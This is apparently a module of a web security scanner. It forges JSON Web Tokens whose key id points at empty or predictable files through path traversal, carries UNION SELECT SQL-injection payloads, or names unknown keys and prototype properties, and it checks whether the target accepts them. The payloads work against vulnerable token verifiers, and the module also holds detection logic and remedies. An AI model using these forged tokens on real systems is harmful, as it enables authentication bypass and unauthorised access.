/**
 * Tokens whose key id leads the target to a key that is known: a file, a row, or nothing.
 *
 * @module
 */

import { newLeaks } from "../../../oracle/leak.ts";
import { signToken } from "../../../principal/json-web-token.ts";
import type { Exchange } from "../../../wire/exchange.ts";
import type { World } from "../../../world/world.ts";
import { inconclusive, vulnerable } from "../../outcomes.ts";
import type { Outcome } from "../../technique.ts";
import type { Forge } from "./forge.ts";
import { forgeryTechnique } from "./forgery-technique.ts";
import { freshWord } from "./own-keys.ts";
import { get } from "./public-keys.ts";
import { tryForgeries, type Forgery } from "./try-forgeries.ts";

const remedy =
  "Look the key id up in a fixed list of keys; never make a file name, a query or a command of it.";

function keyed(
  { token: { header, payload } }: Forge,
  kid: string | undefined,
  key: string | Uint8Array,
  words: string,
): Forgery {
  const sign: Forgery["sign"] = (claims, more = {}) =>
    signToken({ ...header, ...more, alg: "HS256", kid }, claims, key);
  return { variant: words, token: sign(payload), sign };
}

const up = "../".repeat(10);

/** J-14: an empty file. */
export const keyFromEmptyFile = forgeryTechnique(
  { id: "J-14", title: "Key id that is a path to an empty file", severity: "critical", remedy },
  {
    meaning: "the key is read from the file that the token names",
    forgeries: (forge) =>
      [
        "/dev/null",
        `${up}dev/null`,
        `/${up}dev/null`,
        "file:///dev/null",
        `${up}dev/null\0`,
      ].flatMap((kid) =>
        (["", new Uint8Array(1)] as const).map((key) =>
          keyed(
            forge,
            kid,
            key,
            `kid ${JSON.stringify(kid)} with ${key === "" ? "the empty secret" : "a zero byte"}`,
          ),
        ),
      ),
  },
);

const staticFiles = [
  "/robots.txt",
  "/favicon.ico",
  "/index.html",
  "/openapi.json",
  "/swagger.json",
];

/** Files whose content is the same on every system of a kind. */
const systemFiles: readonly (readonly [string, string])[] = [
  ["proc/sys/kernel/randomize_va_space", "2\n"],
  ["proc/sys/fs/suid_dumpable", "0\n"],
  ["proc/sys/vm/overcommit_ratio", "50\n"],
];

async function knownFiles(world: World): Promise<readonly (readonly [string, string])[]> {
  const files: (readonly [string, string])[] = [];
  for (const path of staticFiles) {
    const exchange = await get(world, path);
    const text = exchange.answer?.text ?? "";
    if (!world.succeeds(exchange) || text === "" || text.length > 100_000) continue;
    if (!(await world.looksAbsent(exchange))) files.push([path.slice(1), text]);
  }
  return files.slice(0, 2);
}

/** J-15: a file whose content everybody knows. */
export const keyFromKnownFile = forgeryTechnique(
  { id: "J-15", title: "Key id that is a path to a known file", severity: "critical", remedy },
  (world) =>
    tryForgeries(world, {
      meaning: "the key is read from the file that the token names",
      forgeries: async (forge) => {
        const own = (await knownFiles(world)).flatMap(([name, content]) =>
          ["", "./", "../", "public/", "static/", "../public/", "../static/"].map(
            (folder) => [`${folder}${name}`, content] as const,
          ),
        );
        const system = systemFiles.flatMap(([name, content]) => [
          [`/${name}`, content] as const,
          [`${up}${name}`, content] as const,
          [`${up}${name}`, content.trim()] as const,
        ]);
        return [...system, ...own].map(([kid, content]) =>
          keyed(forge, kid, content, `kid ${JSON.stringify(kid)} with the content of that file`),
        );
      },
    }),
);

/** What makes a query answer with a key of our own. */
const injections = (key: string): readonly string[] => [
  `x' UNION SELECT '${key}' -- `,
  `x' UNION SELECT '${key}'--`,
  `x' UNION SELECT '${key}';#`,
  `x" UNION SELECT "${key}" -- `,
  `x" UNION SELECT '${key}' -- `,
  `x') UNION SELECT '${key}' -- `,
  `0 UNION SELECT '${key}'`,
  `x' UNION SELECT '${key}' FROM dual -- `,
  `x' UNION SELECT '${key}','${key}' -- `,
  `x' UNION SELECT '${key}','${key}','${key}' -- `,
];

/** J-16: a key id that goes into a query. */
export const keyFromQuery = forgeryTechnique(
  { id: "J-16", title: "Key id that changes a query", severity: "critical", remedy },
  (world) => {
    const key = freshWord(() => world.random());
    return tryForgeries(world, {
      meaning: "the key id goes into a query, which answers with a key of our own",
      forgeries: (forge) => [
        ...injections(key).map((kid) =>
          keyed(forge, kid, key, `kid ${kid.replaceAll(key, "key")}`),
        ),
        keyed(forge, "x'", key, "kid with a quote"),
      ],
      look: (forge, forgery, exchange) => brokenQuery(forge, forgery, exchange),
    });
  },
);

/** A trace of SQL after one quote that is not there after two. */
async function brokenQuery(
  forge: Forge,
  { variant, token }: Forgery,
  exchange: Exchange,
): Promise<Outcome | undefined> {
  const usual = [forge.garbage.exchange.answer?.text ?? "", forge.control.answer?.text ?? ""];
  const leak = sqlIn(exchange, usual);
  if (variant !== "kid with a quote" || leak === undefined) return undefined;
  const even = await forge.send(keyed(forge, "x''", "x", "").token);
  const again = await forge.send(token);
  const about = {
    target: forge.proof.operation.key,
    variant,
    evidence: [forge.control, exchange, even, again],
  };
  if (sqlIn(even, usual) !== undefined || sqlIn(again, usual) === undefined)
    return inconclusive(about, "a trace of SQL was shown, but not by the quote alone");
  return vulnerable(about, `a quote in the key id breaks a query: ${leak}`);
}

function sqlIn({ answer }: Exchange, usual: readonly string[]): string | undefined {
  return newLeaks(answer?.text ?? "", usual).find(({ kind }) => kind === "SQL")?.text;
}

/** J-18: a key id that nobody knows, and what then serves as the key. */
export const unknownKeyId = forgeryTechnique(
  { id: "J-18", title: "Key id that nobody knows", severity: "critical", remedy },
  (world) =>
    tryForgeries(world, {
      meaning: "where the key is not found, something that everybody knows takes its place",
      forgeries: (forge) => {
        const kid = freshWord(() => world.random());
        const keys = ["", "undefined", "null", "None", kid, freshWord(() => world.random())];
        return [
          ...keys.map((key) => keyed(forge, kid, key, `unknown kid, key ${JSON.stringify(key)}`)),
          ...["", "undefined", "null"].map((key) =>
            keyed(forge, undefined, key, `no kid, key ${JSON.stringify(key)}`),
          ),
          keyed(forge, "__proto__", "[object Object]", "kid __proto__"),
          keyed(forge, "constructor", "function Object() { [native code] }", "kid constructor"),
        ];
      },
    }),
);
